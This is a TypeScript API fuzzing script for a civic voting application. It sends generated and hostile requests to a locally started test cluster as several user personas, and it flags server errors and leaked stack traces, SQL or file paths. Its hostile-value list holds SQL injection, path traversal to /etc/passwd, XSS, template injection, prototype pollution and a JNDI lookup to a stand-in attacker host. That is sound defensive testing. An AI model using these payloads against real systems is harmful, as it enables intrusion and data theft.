import fuzzer from 'openapi-fuzzer-core';

import { startCluster } from '../cluster/cluster.runtime';
import { pool } from '../fault/fault.http';
import { connect, seedRole, seedVote, seedVoters } from '../fault/fault.seed';
import { SwaggerSpec, toSwagger2 } from './openapi.adapter';

// `npm run fuzz [-- --requests 50000 --connections 32]`: starts the two-process cluster, reads the live
// OpenAPI document, and sends the fuzzer's requests, then the same with hostile values in every path,
// query and body field, as an anonymous visitor, a citizen and staff. Counts 5xx and bodies that leak
// a stack trace, SQL or a file path. Exit code 1 when any is found.
function arg(name: string, fallback: number): number {
  const i = process.argv.indexOf(`--${name}`);
  return i > 0 ? Number(process.argv[i + 1]) : fallback;
}

const HOSTILE: unknown[] = [
  "' OR '1'='1' --",
  '"; DROP TABLE accounts; --',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '\u0000',
  'A'.repeat(20_000),
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://attacker/x}',
  '{{7*7}}',
  '9'.repeat(40),
  -1,
  1e308,
  -2147483649,
  0.5,
  'NaN',
  '😀'.repeat(500),
  '\ud800',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '00000000-0000-0000-0000-000000000000',
  '2026-02-30',
  { $gt: '' },
  { __proto__: { admin: true } },
  [[[[[[[[[[[]]]]]]]]]]],
  null,
  true,
];

/** Leaks a response must never carry. */
const LEAKS: Array<[string, RegExp]> = [
  ['stack trace', /\n\s+at [\w.<>]+ \(|\bat (?:async )?[\w.]+ \([^)]*:\d+:\d+\)/],
  [
    'SQL',
    /\b(?:SELECT\s+[\w*"]+\s+FROM|INSERT INTO|UPDATE\s+\w+\s+SET|DELETE FROM)\b|syntax error at or near|QueryFailedError|violates (?:unique|foreign key|check) constraint|duplicate key value/i,
  ],
  ['file path', /node_modules\/|\/(?:work|home|usr|var|app|srv)\/[\w.-]+\/|[\w-]+\.(?:ts|js):\d+/],
];

interface Persona {
  name: string;
  token: string | null;
}

function substitute(path: string, params: Record<string, unknown> = {}): string {
  return path.replace(/\{(\w+)\}/g, (_, key: string) => {
    const value = String(params[key] ?? 'STRING');
    try {
      return encodeURIComponent(value);
    } catch {
      return '%ED%A0%80'; // a lone surrogate: sent as the invalid UTF-8 it would be
    }
  });
}

function withHostileFields(body: unknown, value: unknown): unknown[] {
  if (!body || typeof body !== 'object' || Array.isArray(body)) return [value];
  return Object.keys(body).map((key) => ({ ...(body as object), [key]: value }));
}

async function main(): Promise<void> {
  const target = arg('requests', 50_000);
  const connections = arg('connections', 32);
  const cluster = await startCluster({ proxyPort: Number(process.env['FUZZ_PORT'] ?? 3240) });
  const db = await connect(cluster.databaseUrl);
  try {
    const seed = await seedVote(db);
    const [citizen] = await seedVoters(db, seed.communeId, 1);
    const staff = await seedRole(db, seed.communeId, 'staff');
    await db.query(
      `INSERT INTO role_assignments (account_id, role, territory_id) VALUES ($1, 'official', $2), ($1, 'admin', $2)`,
      [staff.id, seed.communeId],
    );
    const personas: Persona[] = [
      { name: 'anonymous', token: null },
      { name: 'citizen', token: citizen.token },
      { name: 'staff', token: staff.token },
    ];
    const realIds = [seed.processId, seed.budgetId, seed.communeId, seed.projectIds[0]];

    const document = await (await fetch(`${cluster.url}/api/docs/openapi.json`)).json();
    const base = (fuzzer.swagger(toSwagger2(document)) as SwaggerSpec[]).filter(
      (spec) => !spec.request.path.startsWith('/api/docs'),
    );
    console.log(`OpenAPI: ${Object.keys(document.paths).length} paths; fuzzer specs: ${base.length}`);

    // Round 0: the fuzzer's own specs. Then rounds of hostile values, cycling until the target is reached.
    const requests: Array<SwaggerSpec['request'] & { persona: Persona }> = [];
    for (const spec of base) for (const persona of personas) requests.push({ ...spec.request, persona });
    for (let round = 0; requests.length < target; round++) {
      for (const spec of base) {
        const value = HOSTILE[(round + requests.length) % HOSTILE.length];
        const persona = personas[round % personas.length];
        const realParams = Object.fromEntries(
          Object.keys(spec.request.pathParams ?? {}).map((key, i) => [
            key,
            realIds[(round + i) % realIds.length],
          ]),
        );
        const hostileParams = Object.fromEntries(
          Object.keys(spec.request.pathParams ?? {}).map((key) => [key, value]),
        );
        requests.push({
          ...spec.request,
          pathParams: round % 2 ? realParams : hostileParams,
          queryParams: Object.fromEntries(
            Object.keys(spec.request.queryParams ?? {}).map((key) => [key, value]),
          ),
          persona,
        });
        for (const body of withHostileFields(spec.request.body, value))
          requests.push({ ...spec.request, pathParams: realParams, body, persona });
        if (requests.length >= target) break;
      }
    }

    const statuses: Record<string, number> = {};
    const findings = new Map<string, string>();
    const started = Date.now();
    await pool(requests, connections, async (req) => {
      const query = new URLSearchParams(
        Object.entries(req.queryParams ?? {}).map(([k, v]) => [
          k,
          typeof v === 'string' ? v : JSON.stringify(v),
        ]),
      ).toString();
      const url = `${cluster.url}${substitute(req.path, req.pathParams)}${query ? `?${query}` : ''}`;
      const cookie = `XSRF-TOKEN=fuzz${req.persona.token ? `; agora_session=${req.persona.token}` : ''}`;
      let status = 0;
      let text = '';
      try {
        const res = await fetch(url, {
          method: req.method.toUpperCase(),
          headers: { 'content-type': 'application/json', 'x-xsrf-token': 'fuzz', cookie },
          body: req.method === 'get' || req.body === undefined ? undefined : JSON.stringify(req.body),
          signal: AbortSignal.timeout(30_000),
        });
        status = res.status;
        text = (res.headers.get('content-type') ?? '').includes('event-stream') ? '' : await res.text();
        if (!text) await res.body?.cancel().catch(() => undefined);
      } catch (error) {
        text = String(error);
      }
      statuses[status] = (statuses[status] ?? 0) + 1;
      const where = `${req.method.toUpperCase()} ${req.path}`;
      if (status >= 500 || status === 0)
        findings.set(
          `${where} → ${status}`,
          `${req.persona.name}: ${url.slice(0, 160)} ${JSON.stringify(req.body)?.slice(0, 160) ?? ''} ⇒ ${text.slice(0, 200)}`,
        );
      for (const [kind, pattern] of LEAKS)
        if (pattern.test(text))
          findings.set(
            `${where} → leaks ${kind}`,
            `${req.persona.name}: ${url.slice(0, 160)} ⇒ ${text.slice(0, 300)}`,
          );
    });
    const seconds = (Date.now() - started) / 1000;

    const serverErrors = Object.entries(statuses)
      .filter(([s]) => Number(s) >= 500 || s === '0')
      .reduce((n, [, c]) => n + c, 0);
    console.log(
      `\nRequests: ${requests.length} in ${seconds.toFixed(0)} s (${(requests.length / seconds).toFixed(0)}/s)`,
    );
    console.log(`Statuses: ${JSON.stringify(statuses)}`);
    console.log(`5xx or failed: ${serverErrors}; distinct findings: ${findings.size}`);
    for (const [key, example] of findings) console.log(`  ${key}\n      ${example}`);
    process.exitCode = findings.size ? 1 : 0;
  } finally {
    await db.end();
    await cluster.stop();
  }
}

main().catch((error: unknown) => {
  console.error(error);
  process.exit(1);
});
